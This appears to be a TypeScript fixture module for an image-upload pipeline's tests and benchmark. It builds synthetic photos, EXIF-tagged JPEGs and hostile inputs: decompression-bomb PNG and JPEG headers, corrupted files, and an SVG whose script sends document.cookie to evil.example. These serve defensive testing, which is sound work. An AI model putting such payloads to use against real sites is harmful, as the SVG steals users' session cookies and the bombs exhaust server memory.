import { crc32, deflateSync } from 'node:zlib';
import sharp from '../pipeline/sharp';

/**
 * Images for tests and the benchmark, made here rather than checked in: realistic photos and
 * hostile files crafted byte by byte.
 */

/** A small deterministic PRNG so that every run makes the same photos (plain arithmetic: exact in doubles). */
function prng(seed: number) {
  let s = seed >>> 0 || 1;
  return () => (s = (s * 1664525 + 1013904223) % 4294967296) / 4294967296;
}

/**
 * A photo-like picture: sky and a textured field with shaded fruit, plus sensor-like noise.
 * Encoders see smooth gradients, hard edges and fine grain, as in a phone photo of an orchard;
 * pure random noise would make every encoder (and so every figure) unrealistically slow and large.
 * The inner loop calls no Math functions (they are slow inside jest's sandbox): the texture is
 * built from per-row and per-column tables with sin(a + b) = sin a cos b + cos a sin b.
 */
export function syntheticPhotoPixels(width: number, height: number, seed = 1): Buffer {
  const rnd = prng(seed);
  const px = Buffer.alloc(width * height * 3);
  // Shading and grain may leave 0..255, and a byte array would wrap around instead of clamping.
  const clamp = (v: number) => (v < 0 ? 0 : v > 255 ? 255 : v);
  const short = Math.min(width, height);
  const fruit = Array.from({ length: 14 }, () => {
    const r = (0.05 + rnd() * 0.12) * short;
    return { x: rnd() * width, y: (0.3 + rnd() * 0.7) * height, r, r2: r * r, c0: 150 + rnd() * 100, c1: 20 + rnd() * 80, c2: 20 + rnd() * 40 };
  });
  const sky = [100 + rnd() * 80, 150 + rnd() * 60, 200 + rnd() * 50] as const;
  const field = [40 + rnd() * 60, 90 + rnd() * 60, 30 + rnd() * 40] as const;
  const f1 = (2 + rnd() * 6) * 6.28;
  const f2 = 3 + rnd() * 9;
  const table = (n: number, f: (i: number) => number) => Float64Array.from({ length: n }, (_, i) => f(i));
  const colA = table(width, (x) => (x / width) * f1);
  const sinA = table(width, (x) => Math.sin(colA[x]!));
  const cosA = table(width, (x) => Math.cos(colA[x]!));
  const sinB = table(width, (x) => Math.sin((x / width) * f2 * 9.1));
  const cosB = table(width, (x) => Math.cos((x / width) * f2 * 9.1));
  const horizon = table(width, (x) => (0.4 + 0.05 * Math.sin((x / width) * 7)) * height);
  // Noise from a table of Gaussian-ish values walked with a random stride: cheap and grainy.
  const noise = table(65_536, () => (rnd() + rnd() + rnd() - 1.5) * 10);
  let n = 0;
  for (let y = 0; y < height; y++) {
    const t = y / height;
    const rowA = Math.sin(t * f2 * 6.28) * 2;
    const sinRA = Math.sin(rowA);
    const cosRA = Math.cos(rowA);
    const sinRB = Math.sin(t * f2 * 9.1);
    const cosRB = Math.cos(t * f2 * 9.1);
    n = (n + 7919 * (y + 1)) % 65_536;
    for (let x = 0; x < width; x++) {
      let r: number, g: number, b: number;
      if (y < horizon[x]!) {
        r = sky[0] + t * 60;
        g = sky[1] + t * 40;
        b = sky[2];
      } else {
        const tex = 18 * (sinA[x]! * cosRA + cosA[x]! * sinRA) + 10 * (sinB[x]! * cosRB + cosB[x]! * sinRB);
        r = field[0] + tex;
        g = field[1] + tex;
        b = field[2] + tex * 0.5;
      }
      for (const d of fruit) {
        const dx = x - d.x;
        const dy = y - d.y;
        const q = dx * dx + dy * dy;
        if (q < d.r2) {
          // 1 - q/r2 instead of 1 - sqrt(q)/r: a rounder highlight, and no Math call.
          const shade = 0.55 + 0.45 * (1 - q / d.r2) - (0.125 * (dx + dy)) / d.r;
          r = d.c0 * shade;
          g = d.c1 * shade;
          b = d.c2 * shade;
        }
      }
      n = (n + 40_503) & 65_535;
      const grain = noise[n]!;
      const i = (y * width + x) * 3;
      px[i] = clamp(r + grain);
      px[i + 1] = clamp(g + grain);
      px[i + 2] = clamp(b + grain);
    }
  }
  return px;
}

/**
 * A synthetic photo as a phone would save it (JPEG, quality 92). Tests pass `detailPixels` to
 * draw a smaller picture and let libvips enlarge it (much faster under jest); the benchmark
 * draws every pixel.
 */
export function photoJpeg(width: number, height: number, seed = 1, opts: { quality?: number; detailPixels?: number } = {}): Promise<Buffer> {
  const scale = Math.min(1, Math.sqrt((opts.detailPixels ?? 300_000) / (width * height)));
  const w = Math.max(1, Math.round(width * scale));
  const h = Math.max(1, Math.round(height * scale));
  const drawn = sharp(syntheticPhotoPixels(w, h, seed), { raw: { width: w, height: h, channels: 3 } });
  return (scale < 1 ? drawn.resize(width, height, { fit: 'fill' }) : drawn).jpeg({ quality: opts.quality ?? 92 }).toBuffer();
}

/** Where the test photos were "taken": Li county, Gansu. */
export const SECRET_PLACE = { latitude: '34/1 11/1 2406/100', longitude: '105/1 10/1 3000/100' };
export const SECRET_CAMERA = 'OrchardCam X100 SN-4411-SECRET';

/** A JPEG carrying what a phone writes: GPS position, camera make and model, and an orientation (6 = rotate 90 degrees clockwise). */
export function withPhoneExif(jpeg: Buffer, orientation = 6): Promise<Buffer> {
  return sharp(jpeg)
    .withExif({
      IFD0: { Make: 'OrchardCam', Model: SECRET_CAMERA, Software: 'FarmPhone 1.0' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: SECRET_PLACE.latitude, GPSLongitudeRef: 'E', GPSLongitude: SECRET_PLACE.longitude },
    })
    .withMetadata({ orientation })
    .jpeg({ quality: 92 })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/**
 * A decompression bomb: a valid PNG of a few hundred bytes whose header declares `width` x
 * `height` pixels (30,000 x 30,000 is 2.7 GB of RGB). Nothing here allocates the pixels.
 */
export function bombPng(width = 30_000, height = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const someRows = deflateSync(Buffer.alloc(64 * 1024)); // filter byte 0 and black pixels
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', someRows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A real small JPEG whose frame header (SOF) is rewritten to declare `width` x `height`. */
export async function bombJpeg(width = 30_000, height = 30_000): Promise<Buffer> {
  const jpeg = Buffer.from(await photoJpeg(64, 48));
  for (let i = 2; i < jpeg.length - 9; ) {
    if (jpeg[i] !== 0xff) throw new Error('not a marker');
    const marker = jpeg[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xc3) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF marker found');
}

/** The first `fraction` of a file, as an interrupted upload leaves it. */
export const truncated = (bytes: Buffer, fraction = 0.5) => Buffer.from(bytes.subarray(0, Math.floor(bytes.length * fraction)));

/** Valid magic and header, then bytes flipped through the compressed data. */
export function corrupted(bytes: Buffer): Buffer {
  const out = Buffer.from(bytes);
  for (let i = Math.floor(out.length / 3); i < out.length - 2; i += 61) out[i] = out[i]! ^ 0x5a;
  return out;
}

export const svgWithScript = () =>
  Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(document.cookie)">' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="400" height="300" fill="red"/></svg>',
  );

export const textPretendingToBeJpeg = () => Buffer.from('This is a shopping list, not a photo.\n2 jin apples\n1 jin walnuts\n');

/** A logo with real transparency: a coloured disc on a see-through background. */
export function translucentPng(size = 600): Promise<Buffer> {
  const px = Buffer.alloc(size * size * 4);
  for (let y = 0; y < size; y++) {
    for (let x = 0; x < size; x++) {
      const i = (y * size + x) * 4;
      const inside = (x - size / 2) ** 2 + (y - size / 2) ** 2 < (size * 0.4) ** 2;
      px[i] = 200;
      px[i + 1] = 40 + (x % 50);
      px[i + 2] = 40;
      px[i + 3] = inside ? 255 : 0;
    }
  }
  return sharp(px, { raw: { width: size, height: size, channels: 4 } }).png().toBuffer();
}
